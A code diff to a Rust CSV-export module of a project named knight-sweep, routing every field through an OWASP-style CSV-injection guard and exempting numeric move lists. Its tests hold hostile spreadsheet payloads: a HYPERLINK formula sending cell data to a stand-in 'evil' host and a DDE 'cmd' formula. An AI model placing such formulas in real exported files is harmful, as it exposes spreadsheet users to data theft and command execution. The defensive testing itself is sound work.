@@ -1,6 +1,6 @@
-//! CSV: one file for all tables, and the RFC 4180 quoting every CSV of
-//! knight-sweep uses (the tables here, `ksweep export`), with
-//! [`formula_safe`] for text a user or peer chose.
+//! CSV: one file for all tables, and the one function every CSV field of
+//! knight-sweep goes through (the tables here, `ksweep export`, `ksweep
+//! diff`): [`field`], formula-safe and RFC 4180 quoted.
 
 use std::borrow::Cow;
 
@@ -63,13 +63,15 @@ pub fn record<'f>(fields: impl IntoIterator<Item = &'f str>) -> String {
     line
 }
 
-/// RFC 4180 quoting: only fields with a comma, quote or line break are
-/// quoted, and their quotes doubled.
+/// One CSV field: made [`formula_safe`], then RFC 4180 quoted (only
+/// fields with a comma, quote or line break are quoted, their quotes
+/// doubled). Every field goes through here, whoever chose its text.
 pub fn field(field: &str) -> String {
+    let field = formula_safe(field);
     if field.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", field.replace('"', "\"\""))
     } else {
-        field.to_string()
+        field.into_owned()
     }
 }
 
@@ -77,16 +79,20 @@ pub fn field(field: &str) -> String {
 /// (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, tab and carriage return.
 const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
 
-/// A text field that spreadsheets show as text: one beginning with a
-/// formula character gets a leading `'`, as OWASP advises, so a worker
-/// named `=HYPERLINK(...)` opens as its name, not as a link. For fields
-/// whose text a user or peer chooses; numbers (a negative one starts with
-/// `-`) are written as they are.
-pub fn formula_safe(field: &str) -> Cow<'_, str> {
-    if field.starts_with(FORMULA_STARTS) {
-        Cow::Owned(format!("'{field}"))
-    } else {
+/// A field that spreadsheets show as text: one beginning with a formula
+/// character gets a leading `'`, as OWASP advises, so a worker named
+/// `=HYPERLINK(...)` or a grid labelled `-2+cmd|..` opens as its text.
+/// Numbers and move lists (`-5`, `-2,1 -1,2`, `[-1,3]`: digits, signs,
+/// points, commas, brackets and spaces) are data and stay as they are:
+/// nothing in them can call a function.
+fn formula_safe(field: &str) -> Cow<'_, str> {
+    let numeric = |c: char| c.is_ascii_digit() || " ,.+-[]".contains(c);
+    let data = field.chars().all(numeric) && field.contains(|c: char| c.is_ascii_digit());
+    let inert = !field.starts_with(FORMULA_STARTS) || (field.starts_with(['+', '-']) && data);
+    if inert {
         Cow::Borrowed(field)
+    } else {
+        Cow::Owned(format!("'{field}"))
     }
 }
 
@@ -98,13 +104,14 @@ mod tests {
     fn formula_starts_are_neutralised_and_other_text_kept() {
         let attack = "=HYPERLINK(\"http://evil/\"&A1,\"x\")";
         assert_eq!(formula_safe(attack), format!("'{attack}"));
-        for start in ["+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"] {
+        for start in ["-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "=1+1", "+A1", "-inf", "-", "+"] {
             assert_eq!(formula_safe(start), format!("'{start}"), "{start:?}");
         }
-        for plain in ["worker-1", "1=1", "", "a@b", " =1"] {
+        for plain in ["worker-1", "1=1", "", "a@b", " =1", "-5", "-0.5", "+3", "-2,1 -1,2", "[-1,3]", "'=x"] {
             assert!(matches!(formula_safe(plain), Cow::Borrowed(t) if t == plain), "{plain:?}");
         }
         // Quoting still applies after: the quotes of the formula are doubled.
-        assert_eq!(record([formula_safe(attack).as_ref()]), "\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\"\n");
+        assert_eq!(record([attack]), "\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\"\n");
+        assert_eq!(record(["-2,1 -1,2", "-5", "@x"]), "\"-2,1 -1,2\",-5,'@x\n");
     }
 }
